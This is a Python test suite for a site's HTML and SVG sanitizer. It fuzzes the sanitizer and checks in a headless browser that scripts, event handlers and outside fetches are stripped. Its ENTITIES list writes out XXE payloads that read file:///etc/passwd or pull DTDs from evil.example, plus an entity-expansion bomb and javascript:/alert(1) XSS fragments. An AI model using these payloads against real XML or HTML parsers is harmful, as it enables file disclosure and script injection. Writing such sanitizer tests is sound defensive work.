"""Nothing that runs, and nothing from elsewhere, comes through the allow-lists of HTML and SVG."""

import re

import nh3
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, Route

from content import svg
from content.media import Picture
from content.rendering import cleaner, render
from core.errors import Invalid
from tests.content.judging import html_harm, svg_harm, vectors

KNOWN = {"media/x.svg": Picture("0123456789abcdef.svg", "", "", 40, 30)}
HTML, INSIDE_SVG = vectors("html"), vectors("svg")
HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30">'
)
ENTITIES = [
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + HEAD + "<text>&x;</text></svg>",
    '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>' + HEAD + "</svg>",
    '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>' + HEAD + "<text>&c;</text></svg>",
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg11.dtd">' + HEAD + "</svg>",
    '<?xml version="1.0"?><!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + HEAD + "</svg>",
    HEAD + "<text>&undefined;</text></svg>",
    HEAD + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><text>&xxe;</text></svg>',
]  # fmt: skip


def cleaned(body: str) -> str:
    """What is served of a body, whatever is wrong with it."""
    return "".join(render(body, KNOWN, kind).html for kind in ("article", "long_graphic"))


def picture(inside: str) -> bytes | None:
    """The SVG that is served, None when it is refused."""
    try:
        return svg.clean((HEAD + inside + "</svg>").encode("utf-8", "ignore"))[0]
    except Invalid:
        return None


def test_no_known_attack_by_markdown_or_html_comes_through() -> None:
    around = [
        "{}",
        "话{}话",
        "/// card | 记住\n{}\n///\n",
        "| a |\n|---|\n| {} |\n",
        "{}\n\n[1]: javascript:alert(1)\n",
    ]
    bodies = [form.replace("{}", attack) for attack in HTML for form in around]
    assert {body: harm for body in bodies if (harm := html_harm(cleaned(body)))} == {}


def test_no_known_attack_by_svg_comes_through() -> None:
    around = ["{}", "<g>{}</g>", "<defs>{}</defs><rect/>", "<text>{}</text>"]
    served = {
        inside: picture(inside)
        for attack in INSIDE_SVG
        for form in around
        for inside in [form.replace("{}", attack)]
    }
    assert {inside: harm for inside, data in served.items() if data and (harm := svg_harm(data))} == {}
    assert (
        sum(data is None for data in served.values()) < len(served) / 10
    )  # they are cleaned, not only refused


@pytest.mark.parametrize("attack", ENTITIES)
def test_entities_and_document_types_are_refused(attack: str) -> None:
    for coded in (attack.encode(), attack.encode("utf-16"), b"\xef\xbb\xbf" + attack.encode()):
        with pytest.raises(Invalid):
            svg.clean(coded)


def test_a_coding_that_hides_what_is_there_changes_nothing() -> None:
    attack = HEAD + '<script>alert(1)</script><rect onclick="x"/></svg>'
    for coding in ("utf-16", "utf-16-be", "iso-8859-1", "utf-7", "utf-32", "shift_jis", "cp037"):
        declared = f'<?xml version="1.0" encoding="{coding}"?>{attack}'
        try:
            made = svg.clean(declared.encode(coding))[0]
        except Invalid:
            continue
        assert svg_harm(made) == []


_WORDS = st.sampled_from(
    [
        "javascript:",
        "https://e",
        "//e",
        "data:,x",
        "url(#a)",
        "url(//e)",
        "url(",
        "@import",
        "\\",
        "expression(",
        "alert(1)",
        "onload=",
        '"',
        "'",
        ">",
        "<",
        "-->",
        "]]>",
        "&#106;",
        "&quot;",
        "&lt;",
        "\t",
        "\n",
        "话",
        "#a",
        "red",
        "x",
    ]
)
_VALUE = st.lists(st.one_of(_WORDS, st.text(max_size=4)), max_size=4).map("".join)
_PIECE = st.one_of(
    st.sampled_from(HTML),
    st.sampled_from(["///", "/// card | ", "//// panel | x", "\n\n", "- 我：", "{: ", " }", "| a |\n|---|\n", "    ", "<!--", "-->", "`", "<p title='", "\x0b"]),
    st.builds("<{} {}={}>".format, st.sampled_from(["a", "img", "p", "svg", "math", "div", "script", "style", "iframe", "h2", "xmp"]), st.sampled_from(["href", "src", "onclick", "style", "class", "title", "srcset"]), _VALUE),
    st.text(max_size=8),
)  # fmt: skip


@settings(deadline=None, max_examples=80)
@given(st.lists(_PIECE, max_size=8).map("".join))
@example('<a href="java\nscript:x">a</a>')
@example("[a](\\\\evil.example)")
def test_nothing_made_of_pieces_of_attacks_comes_through(body: str) -> None:
    assert html_harm(cleaned(body)) == []


def _escaped(value: str) -> str:
    clean = re.sub(r"[^\t\n\r\x20-\ud7ff\ue000-\ufffd]", "", value)
    return clean.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


_TAG = st.sampled_from(
    [
        "rect",
        "g",
        "use",
        "style",
        "script",
        "image",
        "a",
        "foreignObject",
        "text",
        "title",
        "filter",
        "feImage",
        "animate",
        "set",
        "x:script",
        "xlink:a",
    ]
)
_NAME = st.sampled_from(
    [
        "href",
        "xlink:href",
        "style",
        "fill",
        "filter",
        "onload",
        "onclick",
        "id",
        "class",
        "src",
        "xml:base",
        "attributeName",
        "to",
        "values",
        "font-family",
    ]
)
_TREE = st.recursive(
    st.one_of(_VALUE.map(_escaped), st.sampled_from(INSIDE_SVG), _VALUE.map("<![CDATA[{}]]>".format)),
    lambda inner: st.builds(
        lambda tag, named, held: (
            f'<{tag} xmlns:x="http://www.w3.org/1999/xhtml" '
            + " ".join(f'{name}="{_escaped(value)}"' for name, value in named.items())
            + f">{''.join(held)}</{tag}>"
        ),
        _TAG, st.dictionaries(_NAME, _VALUE, max_size=3), st.lists(inner, max_size=3),
    ),
    max_leaves=6,
)  # fmt: skip


@settings(deadline=None, max_examples=150)
@given(_TREE)
def test_no_tree_of_elements_brings_harm_into_a_picture(inside: str) -> None:
    made = picture(inside)
    assert made is None or svg_harm(made) == []


OPENED = {
    "script": {"tags": {"script"}, "clean_content_tags": set()},
    "handler": {"attributes": {"img": {"src", "onerror"}, "p": {"onclick"}}},
    "style": {"attributes": {"p": {"style"}}},
    "foreign picture": {"attributes": {"img": {"src"}}, "attribute_filter": None},
    "scheme": {"url_schemes": {"https", "javascript"}},
    "comment": {"strip_comments": False},
    "frame": {"tags": {"iframe"}},
    "picture in HTML": {"tags": {"svg", "math"}},
}  # fmt: skip


@pytest.mark.parametrize("opened", OPENED.values(), ids=OPENED)
def test_the_judge_of_html_sees_an_opened_list(opened: dict[str, object]) -> None:
    """An allow-list that lets one thing more through does not pass the attacks."""
    usual = {"tags": cleaner._TAGS, "attributes": cleaner._ATTRIBUTES, "attribute_filter": cleaner._judge,
             "clean_content_tags": {"style"}, "url_schemes": {"https"}}  # fmt: skip
    given_ = {**usual, **opened}
    given_["tags"] = set(given_["tags"]) | cleaner._TAGS - set(given_["clean_content_tags"])  # type: ignore[call-overload]
    loose = nh3.Cleaner(link_rel=None, **given_)  # type: ignore[arg-type]
    assert any(html_harm(loose.clean(attack)) for attack in HTML)


@pytest.mark.parametrize("name", ["script", "image", "foreignObject", "a", "animate", "set", "feImage"])
def test_the_judge_of_svg_sees_an_opened_list(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(svg, "_ELEMENTS", svg._ELEMENTS | {name})
    assert any(svg_harm(made) for made in map(picture, INSIDE_SVG) if made is not None)


@pytest.mark.parametrize("name", ["onclick", "onload"])
def test_the_judge_of_svg_sees_an_opened_list_of_attributes(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(svg, "_ATTRIBUTES", svg._ATTRIBUTES | {name})
    assert any(svg_harm(made) for made in map(picture, INSIDE_SVG) if made is not None)


def test_the_judge_of_svg_sees_an_address_from_elsewhere(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(svg, "_harmless", lambda _name, _value: True)
    assert any(svg_harm(made) for made in map(picture, INSIDE_SVG) if made is not None)


def test_a_browser_runs_nothing_of_it_and_fetches_nothing(chromium: Browser) -> None:
    """The attacks as a browser reads them after cleaning, in a page without a policy that would help."""
    drawn = [made.decode() for made in map(picture, INSIDE_SVG) if made is not None]
    text = "\n".join([cleaned(attack) for attack in HTML] + drawn)
    page = chromium.new_page()
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(
            body=f"<!doctype html><main>{text}</main>" if len(asked) == 1 else "", content_type="text/html"
        )

    page.route("**/*", answer)
    page.add_init_script("window.hits = []; window.alert = (what) => window.hits.push(what)")
    try:
        page.goto("http://site.example/", wait_until="load")
        links = page.eval_on_selector_all("a[href]", "all => all.map(one => one.protocol)")
        page.eval_on_selector_all(
            "main *",
            """all => {
                addEventListener('click', (event) => event.preventDefault(), true);
                for (const one of all) for (const kind of ['mouseover', 'click'])
                    one.dispatchEvent(new MouseEvent(kind, {cancelable: true, bubbles: true}));
            }""",
        )
        known = page.eval_on_selector_all("main *", "all => all.map(one => one.localName)")
        hits = page.evaluate("window.hits")
    finally:
        page.close()
    assert hits == []
    assert set(asked) <= {"http://site.example/", "http://site.example/media/0123456789abcdef.svg"}
    assert set(links) <= {"http:", "https:", "tel:", "mailto:"}
    assert len(known) > 200
    assert not {"script", "iframe", "image", "foreignObject", "form", "input", "object", "embed"} & set(known)
